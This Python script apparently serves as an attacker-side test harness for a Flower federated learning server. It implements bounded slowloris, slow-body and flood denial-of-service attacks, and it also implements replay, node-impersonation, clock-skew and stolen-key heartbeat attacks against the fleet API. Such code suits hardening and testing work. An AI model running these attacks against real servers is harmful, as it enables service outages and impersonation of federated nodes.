"""What an attacker sends, from a machine of his own: a program of its own, so that it runs inside a network namespace.

    outsider.py slow HOST PORT COUNT SECONDS [FROM]   connections that send a byte now and then
    outsider.py bodies HOST PORT COUNT MEGABYTES      requests without a key whose bodies come slowly
    outsider.py flood HOST PORT COUNT                 requests without a key, as fast as they go
    outsider.py steal HOST PORT KEY NODE SECONDS      polls with a site's key, next to the site
    outsider.py linger HOST PORT KEY NODE SECONDS     one heartbeat that asks to count as online so long
    outsider.py forge HOST PORT KEY NODE OTHER        a reply in the name of another node; a signature used twice
    outsider.py clock HOST PORT KEY AHEAD             starts with a clock that is wrong

Everything is bounded in number and time. It prints one JSON object.
"""

import http.client
import json
import socket
import ssl
import sys
import time
from base64 import b64encode
from collections import Counter
from datetime import UTC, datetime, timedelta

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_ssh_private_key
from flwr.supercore.protobuf.constants import PROTOBUF_MEDIA_TYPE

MOST_SECONDS, MOST_CONNECTIONS = 120.0, 2000


def end_after(seconds: float) -> float:
    return time.monotonic() + min(float(seconds), MOST_SECONDS)


def tls() -> ssl.SSLContext:
    """A TLS context that accepts any server."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def slow(host: str, port: str, count: str, seconds: str, source: str = "") -> dict:
    """Half of the connections do not finish the TLS handshake, the others send a header byte by byte."""
    number, until = min(int(count), MOST_CONNECTIONS), end_after(seconds)
    lines: list[socket.socket] = []
    opened = closed = 0
    while time.monotonic() < until:
        while len(lines) < number and time.monotonic() < until:
            try:
                line: socket.socket = socket.create_connection((host, int(port)), 5, (source, 0) if source else None)
                if opened % 2:
                    line.settimeout(5)
                    line = tls().wrap_socket(line)
                line.sendall(b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: x\r\nX-" if opened % 2 else b"\x16")
                line.setblocking(False)
                lines.append(line)
                opened += 1
            except OSError:
                closed += 1
                time.sleep(0.05)
        for line in list(lines):
            try:
                line.send(b"a")
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                continue
            except OSError:
                lines.remove(line)
                closed += 1
        time.sleep(1.0)
    return {"opened": opened, "closed by the server": closed}


def bodies(host: str, port: str, count: str, megabytes: str) -> dict:
    """Send the declared body as long as the server accepts it, for at most 30 s."""
    size, answers, passed = int(float(megabytes) * (1 << 20)), Counter(), Counter()
    head = f"POST /v1/fleet/push-object HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode()
    lines, chunk = [], b"x" * 65536
    for _ in range(min(int(count), 200)):
        try:
            lines.append(tls().wrap_socket(socket.create_connection((host, int(port)), timeout=10)))
            lines[-1].sendall(head)
        except OSError:
            answers["no connection"] += 1
    until, open_ = end_after(30), list(lines)
    while open_ and time.monotonic() < until:
        for line in list(open_):
            try:
                line.settimeout(0.2)
                line.sendall(chunk)
                passed[line] += len(chunk)
                if passed[line] >= size:
                    open_.remove(line)
            except TimeoutError:
                continue
            except OSError:
                answers["closed"] += 1
                open_.remove(line)
    return {"megabytes taken": round(passed.total() / (1 << 20), 1), **answers}


def flood(host: str, port: str, count: str) -> dict:
    """Send one request after the other, each in a new connection, for at most MOST_SECONDS."""
    answers, until, left = Counter(), end_after(MOST_SECONDS), min(int(count), 3000)
    while left and time.monotonic() < until:
        left -= 1
        try:
            connection = http.client.HTTPSConnection(host, int(port), context=tls(), timeout=10)
            connection.request("POST", "/v1/fleet/pull-messages", body=b"")
            answers[str(connection.getresponse().status)] += 1
            connection.close()
        except OSError:
            answers["no answer"] += 1
    return dict(answers)


class Site:
    """Signs requests with a site's key."""

    def __init__(self, host: str, port: str, key: str) -> None:
        with open(key, "rb") as file:  # noqa: PTH123
            self.key = load_ssh_private_key(file.read(), None)
        self.host, self.port = host, int(port)

    def headers(self, ahead: float = 0.0) -> dict[str, str]:
        signed = (datetime.now(UTC) + timedelta(seconds=ahead)).isoformat()
        public = self.key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        signature = self.key.sign(signed.encode(), ec.ECDSA(hashes.SHA256()))
        own = {"flwr-public-key": b64encode(public).decode(), "flwr-signature": b64encode(signature).decode()}
        return {**own, "flwr-timestamp": signed, "content-type": PROTOBUF_MEDIA_TYPE}

    def ask(self, path: str, body: bytes, headers: dict | None = None) -> tuple[int, str]:
        connection = http.client.HTTPSConnection(self.host, self.port, context=tls(), timeout=20)
        connection.request("POST", f"/v1/fleet/{path}", body=body, headers=headers or self.headers())
        answer = connection.getresponse()
        return answer.status, answer.read()[:300].decode(errors="replace")


def steal(host: str, port: str, key: str, node: str, seconds: str) -> dict:
    """Send heartbeats with the key of a site that is online, from another address."""
    from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest

    site, answers, until = Site(host, port, key), Counter(), end_after(seconds)
    request = SendNodeHeartbeatRequest(heartbeat_interval=30)
    request.node.node_id = int(node)
    while time.monotonic() < until:
        answers[str(site.ask("send-node-heartbeat", request.SerializeToString())[0])] += 1
        time.sleep(3)
    return dict(answers)


def linger(host: str, port: str, key: str, node: str, seconds: str) -> dict:
    """Send one heartbeat with the key of a site, which asks for a long interval."""
    from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest

    request = SendNodeHeartbeatRequest(heartbeat_interval=float(seconds))
    request.node.node_id = int(node)
    return {"answer": Site(host, port, key).ask("send-node-heartbeat", request.SerializeToString())[0]}


def forge(host: str, port: str, key: str, node: str, other: str) -> dict:
    """Send requests that Flower 1.41 alone would accept."""
    from flwr.proto.fleet_pb2 import PullMessagesRequest, PushMessagesRequest

    site, reply, pull = Site(host, port, key), PushMessagesRequest(), PullMessagesRequest()
    reply.node.node_id = pull.node.node_id = int(node)
    reply.messages_list.add().metadata.src_node_id = int(other)
    once = site.headers()
    return {
        "another's reply": site.ask("push-messages", reply.SerializeToString()),
        "signature": site.ask("pull-messages", pull.SerializeToString(), once)[0],
        "signature again": site.ask("pull-messages", pull.SerializeToString(), once)[0],
    }


def clock(host: str, port: str, key: str, ahead: str) -> dict:
    """Ask the server with a wrong clock, and return its answer."""
    from flwr.proto.fleet_pb2 import ActivateNodeRequest

    site = Site(host, port, key)
    return {"answer": site.ask("activate-node", ActivateNodeRequest().SerializeToString(), site.headers(float(ahead)))}


if __name__ == "__main__":
    kinds = {each.__name__: each for each in (slow, bodies, flood, steal, linger, forge, clock)}
    print(json.dumps(kinds[sys.argv[1]](*sys.argv[2:])))
